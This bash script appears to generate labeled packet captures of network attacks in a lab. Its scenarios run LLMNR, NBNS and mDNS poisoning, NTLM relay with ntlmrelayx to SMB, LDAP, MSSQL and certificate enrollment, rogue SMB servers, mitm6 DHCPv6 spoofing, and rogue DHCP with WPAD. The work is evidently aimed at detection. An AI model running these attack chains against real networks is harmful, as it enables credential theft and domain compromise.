# Poisoned names and configuration, then a relay or a rogue server: one function records one capture.

POISONED=(malicious=yes attacker=$EVIL victim=$WS1 listener=$EVIL family=poisoning)
EVERYTHING=(tcp or udp or arp or icmp6)

poison() { # protocols
  : > "$RUN/poisoner.jsonl"
  "$HERE/in_host" evil "$CLIENTS/python" "$HERE/poisoner.py" "$RUN/poisoner.jsonl" $EVIL "$@" > "$RUN/poisoner.log" 2>&1 &
  HELPER=$!
  sleep 0.7
}

# asks HOST ADDRESS PROTOCOL NAME...: mistyped and outdated names that DNS does not have
asks() {
  local host=$1 own=$2 protocol=$3 name
  shift 3
  for name in "$@"; do
    if [ "$protocol" = nbns ]; then
      quietly_on "$host" nmblookup -s /dev/null -B $PREFIX.255 "$name"
    else
      quietly_on "$host" nslookup "$name.$DNS_DOMAIN" $DC
      quietly_on "$host" "$CLIENTS/python" "$HERE/ask_name.py" "$protocol" "$name" "$own"
    fi
  done
}

rogue_smb() { # challenge
  "$HERE/in_host" evil "$IMPACKET/python" "$HERE/rogue_smb.py" $EVIL "$1" > "$RUN/listener.log" 2>&1 &
  LISTENER=$!
  wait_for_port evil 445
}

scenario_poisoning_llmnr_smb_smb() {
  record poisoning_llmnr_smb_smb "${EVERYTHING[@]}"
  poison llmnr
  relay_on smb -t "smb://$FILES"
  asks ws1 $WS1 llmnr fileserv fileserver2 filesrv
  user_smb $EVIL
  sleep 2
  truth "${POISONED[@]}" target=$FILES expect=poisoning:llmnr expect=relay:smb-smb "$IMPACKET_TOOLS" \
    notes="A user mistypes the file server's name; the attacker answers each by LLMNR, and relays the logon that follows. Asking is done by a stand-in, the logon by smbclient."
}

scenario_poisoning_llmnr_rogue() {
  record poisoning_llmnr_rogue "${EVERYTHING[@]}"
  poison llmnr
  rogue_smb 1122334455667788
  asks ws1 $WS1 llmnr intranett sharepont
  user_smb $EVIL
  asks ws2 $WS2 llmnr printsrv9 oldserver
  quietly_on ws2 smbclient "//$EVIL/share" -t 8 -c ls "${SMB_CLIENT[@]}" -U "$DOMAIN/$BOB%$BOB_PW"
  truth "${POISONED[@]}" also=victim:$WS2 expect=poisoning:llmnr expect=rogue-server:responder "$IMPACKET_TOOLS" \
    notes="Two workstations, four names, no relay: a server whose challenge is 1122334455667788 collects responses."
}

scenario_poisoning_llmnr_wpad() {
  record poisoning_llmnr_wpad "${EVERYTHING[@]}"
  poison llmnr
  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh wpad -wa 0
  asks ws1 $WS1 llmnr wpad
  fetch_wpad
  sleep 3
  truth "${POISONED[@]}" target=$DC expect=poisoning:llmnr expect=rogue:wpad expect=relay:http-ldap "$CURL_TOOLS" \
    notes="wpad by LLMNR, the proxy settings from the attacker, and then a logon at the proxy that they name, relayed to LDAP."
}

# The system's proxy discovery as the user, then a page through the proxy that it names
fetch_wpad() {
  local wpad=(-H 'Host: wpad' -A 'WinHttp-Autoproxy-Service/5.1')
  quietly_on ws1 curl -sS --max-time 8 -o /dev/null "${wpad[@]}" "http://$EVIL/wpad.dat"
  quietly_on ws1 curl -sS --max-time 12 -o /dev/null -x "http://$EVIL:80" --proxy-ntlm -U "$DOMAIN\\$ALICE:$ALICE_PW" \
    http://news.example/
}

scenario_poisoning_nbns_smb_http() {
  record poisoning_nbns_smb_http "${EVERYTHING[@]}"
  poison nbns
  relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs
  asks ws1 $WS1 nbns FILESERV OLDNAS
  broadcast_smb FINANCE1
  sleep 4
  truth "${POISONED[@]}" target=$CA expect=poisoning:nbns expect=relay:smb-http expect=adcs-enrollment \
    tools="$IMPACKET_CALL, $SAMBA_CLIENT" \
    notes="NetBIOS broadcasts by Samba's own client, which then logs on at whoever answered; the logon is relayed and a certificate issued to the user."
}

broadcast_smb() { # a share on a server that only a broadcast can find
  quietly_on ws1 smbclient "//$1/share" -t 8 -c ls "${SMB_CLIENT[@]}" '--option=name resolve order=bcast' \
    "--option=interfaces=$WS1/24" -U "$DOMAIN/$ALICE%$ALICE_PW"
}

scenario_poisoning_nbns_rogue() {
  record poisoning_nbns_rogue "${EVERYTHING[@]}"
  poison nbns
  rogue_smb 1122334455667788
  broadcast_smb ARCHIVE
  broadcast_smb SCANNER2
  broadcast_smb PUBLIC
  truth "${POISONED[@]}" expect=poisoning:nbns expect=rogue-server:responder tools="$IMPACKET_CALL, $SAMBA_CLIENT" \
    notes="Three names, three logons at a server whose challenge never changes."
}

scenario_poisoning_nbns_wpad() {
  record poisoning_nbns_wpad "${EVERYTHING[@]}"
  poison nbns
  relay_on http -t "smb://$FILES" -wh wpad -wa 0
  asks ws1 $WS1 nbns WPAD
  fetch_wpad
  sleep 3
  truth "${POISONED[@]}" target=$FILES expect=poisoning:nbns expect=rogue:wpad expect=relay:http-smb "$CURL_TOOLS" \
    notes="WPAD by NetBIOS broadcast, then the logon at the proxy, relayed to SMB."
}

scenario_poisoning_mdns_smb_smb() {
  record poisoning_mdns_smb_smb "${EVERYTHING[@]}"
  poison mdns
  relay_on smb -t "smb://$FILES"
  asks ws1 $WS1 mdns fileserv fileserver2 filesrv
  user_smb $EVIL
  sleep 2
  truth "${POISONED[@]}" target=$FILES expect=poisoning:mdns expect=relay:smb-smb "$IMPACKET_TOOLS" \
    notes="The same by multicast DNS: three names in .local, one answering host."
}

scenario_poisoning_mdns_rogue() {
  record poisoning_mdns_rogue "${EVERYTHING[@]}"
  poison mdns
  rogue_smb 4141414141414141
  asks ws1 $WS1 mdns printer-2f backup-old
  asks ws2 $WS2 mdns projektor
  user_smb $EVIL
  user_smb $EVIL
  truth "${POISONED[@]}" expect=poisoning:mdns expect=rogue-server:smbserver "$IMPACKET_TOOLS" \
    notes="Three names, then two logons at a server whose challenge is 8 times 0x41."
}

scenario_poisoning_all_three() {
  record poisoning_all_three "${EVERYTHING[@]}"
  poison llmnr nbns mdns
  relay_on smb -t "mssql://$FILES" -q 'select system_user'
  asks ws1 $WS1 llmnr reports archive3 timesheet
  asks ws1 $WS1 mdns reports archive3 timesheet
  asks ws1 $WS1 nbns REPORTS ARCHIVE3 TIMESHEET
  user_smb $EVIL
  sleep 2
  truth "${POISONED[@]}" target=$FILES expect=poisoning:llmnr expect=poisoning:mdns expect=poisoning:nbns \
    expect=relay:smb-mssql "$IMPACKET_TOOLS" \
    notes="One name asked for by all three, as Windows does, one host answers all; the logon goes to a database."
}

# DHCPv6, router advertisements, DHCPv4

scenario_rogue_dhcpv6_mitm6() {
  ipv6 on
  record rogue_dhcpv6_mitm6 "${EVERYTHING[@]}"
  mitm6 -d "$DNS_DOMAIN"
  relay_on http -6 -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh "wpad.$DNS_DOMAIN" -wa 0
  ask_dhcpv6 ws1
  ask_rogue_dns ws1 "wpad.$DNS_DOMAIN" "$FILES_FQDN"
  fetch_wpad
  sleep 3
  truth "${POISONED[@]}" $(on_the_link) target=$DC expect=rogue:dhcpv6 expect=rogue:ra expect=rogue:dns expect=rogue:wpad \
    expect=relay:http-ldap tools="mitm6 0.3.0, isc-dhcp-client 4.4.3, $IMPACKET_CALL" \
    notes="mitm6 as it is: router advertisements that send clients to DHCPv6, itself as name server, wpad answered, and the logon at the proxy relayed."
  ipv6 off
}

scenario_rogue_dhcpv6_dns() {
  ipv6 on
  record rogue_dhcpv6_dns "${EVERYTHING[@]}"
  mitm6 -d "$DNS_DOMAIN" --relay "$DC_FQDN"
  ask_dhcpv6 ws1
  ask_rogue_dns ws1 "$DC_FQDN"
  quietly_on ws1 dig +tries=1 +time=2 "@$(link_local evil)%eth0" SOA "ws1.$DNS_DOMAIN"
  truth "${POISONED[@]}" $(on_the_link) expect=rogue:dhcpv6 expect=rogue:ra expect=rogue:dns tools="mitm6 0.3.0, isc-dhcp-client 4.4.3" \
    notes="mitm6 in the mode that answers SOA queries in order to be sent a Kerberos ticket for the domain controller."
  ipv6 off
}

mitm6() { # arguments
  (cd "$RUN"; exec "$HERE/in_host" evil "$MITM6/python" -u "$MITM6/mitm6" -i eth0 -4 $EVIL -v "$@") > "$RUN/mitm6.log" 2>&1 < /dev/null &
  HELPER=$!
  sleep 4
}

ask_dhcpv6() {
  rm -f "$RUN/lease6"
  timeout 12 "$HERE/in_host" "$1" dhclient -6 -1 -d -sf /bin/true -lf "$RUN/lease6" -pf "$RUN/dhclient6.pid" eth0 \
    >> "$RUN/clients.log" 2>&1 < /dev/null || true
}

link_local() { ip -n "$NS$1" -6 addr show dev eth0 scope link | awk '/inet6/ {sub("/.*", "", $2); print $2; exit}'; }

# The same hosts by their addresses of the link, which DHCPv6 and router advertisements have
on_the_link() {
  local evil
  evil=$(link_local evil)
  echo "also=attacker:$evil also=listener:$evil also=victim:$(link_local ws1)"
}

ask_rogue_dns() { # host name...
  local host=$1 name
  shift
  for name in "$@"; do
    quietly_on "$host" dig +tries=1 +time=2 "@$(link_local evil)%eth0" A "$name"
  done
}

# dhcp_server HOST ADDRESS RANGE OPTIONS...: dnsmasq; its process id goes to DHCP_PIDS
DHCP_PIDS=
dhcp_server() {
  local host=$1 address=$2 range=$3
  shift 3
  : > "$RUN/$host.leases"
  "$HERE/in_host" "$host" dnsmasq -k --conf-file=/dev/null --port=0 --interface=eth0 --no-ping --dhcp-authoritative \
    --dhcp-range="$range,1h" --dhcp-leasefile="$RUN/$host.leases" --user=root "$@" > "$RUN/$host.dnsmasq.log" 2>&1 &
  DHCP_PIDS="$DHCP_PIDS $!"
  sleep 0.8
}
stop_dhcp_servers() { kill $DHCP_PIDS 2> /dev/null || true; DHCP_PIDS=; }

ask_dhcp() { # host: takes whatever offer comes, and leaves its address as it is
  rm -f "$RUN/lease4"
  timeout 15 "$HERE/in_host" "$1" dhclient -4 -1 -d -sf /bin/true -lf "$RUN/lease4" -pf "$RUN/dhclient4.pid" eth0 \
    >> "$RUN/clients.log" 2>&1 < /dev/null || true
}

scenario_rogue_dhcp() {
  record rogue_dhcp "${EVERYTHING[@]}"
  dhcp_server gw1 $GW "$PREFIX.150,$PREFIX.159" "--dhcp-option=3,$GW" "--dhcp-option=6,$DC"
  ask_dhcp ws2
  dhcp_server evil $EVIL "$PREFIX.160,$PREFIX.169" "--dhcp-option=3,$EVIL" "--dhcp-option=6,$EVIL" --dhcp-reply-delay=0
  ask_dhcp ws1
  truth "${POISONED[@]}" also=victim:$PREFIX.160 expect=rogue:dhcp tools="dnsmasq $(dnsmasq --version | awk 'NR == 1 {print $3}'), isc-dhcp-client 4.4.3" \
    notes="The network's DHCP server at the gateway, and a second one, the attacker's, that offers itself as router and name server: two offers to one request."
  stop_dhcp_servers
}

scenario_rogue_dhcp_wpad() {
  record rogue_dhcp_wpad "${EVERYTHING[@]}"
  dhcp_server gw1 $GW "$PREFIX.150,$PREFIX.159" "--dhcp-option=3,$GW" "--dhcp-option=6,$DC"
  dhcp_server evil $EVIL "$PREFIX.160,$PREFIX.169" "--dhcp-option=252,http://$EVIL/wpad.dat" "--dhcp-option=6,$DC"
  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh wpad -wa 0
  ask_dhcp ws1
  fetch_wpad
  sleep 3
  truth "${POISONED[@]}" target=$DC expect=rogue:dhcp expect=rogue:wpad expect=relay:http-ldap \
    tools="dnsmasq $(dnsmasq --version | awk 'NR == 1 {print $3}'), isc-dhcp-client 4.4.3, $IMPACKET_CALL" \
    notes="Option 252 from the second DHCP server leads to proxy settings, these to a proxy that wants a logon, and that to LDAP."
  stop_dhcp_servers
}

scenario_rogue_ra() {
  ipv6 on
  # dnsmasq serves networks that it is in itself.
  ip -n "${NS}evil" addr add fd66::66/64 dev eth0 nodad
  record rogue_ra "${EVERYTHING[@]}"
  dhcp_server evil $EVIL "fd66::100,fd66::1ff,slaac" --enable-ra "--dhcp-option=option6:dns-server,[fd10::66]"
  sleep 3
  ask_dhcpv6 ws1
  truth "${POISONED[@]}" $(on_the_link) expect=rogue:ra expect=rogue:dhcpv6 \
    tools="dnsmasq $(dnsmasq --version | awk 'NR == 1 {print $3}'), isc-dhcp-client 4.4.3" \
    notes="Router advertisements and DHCPv6 from a host that was no router before, with itself as name server. Another program than mitm6."
  stop_dhcp_servers
  ipv6 off
}

scenario_rogue_smbserver() {
  callback_with libsmbclient
  record rogue_smbserver
  listen evil $EVIL
  machine_smb $EVIL
  user_smb $EVIL
  truth "${RELAY[@]}" also=victim:$WS1 expect=rogue-server:smbserver "$IMPACKET_TOOLS" \
    notes="impacket's smbserver, as it comes: the challenge is aaaaaaaaaaaaaaaa for everybody."
}

scenario_rogue_ntlmrelayx() {
  several_targets
  record rogue_ntlmrelayx
  relay_on smb -tf "$RUN/targets"
  machine_smb $EVIL
  user_smb $EVIL
  sleep 2
  truth "${RELAY[@]}" also=victim:$WS1 expect=rogue-server:ntlmrelayx "$IMPACKET_TOOLS" \
    notes="ntlmrelayx with several targets and clients that do not log on again: only its own first challenge, 8 times 0x41, and the expired session."
}
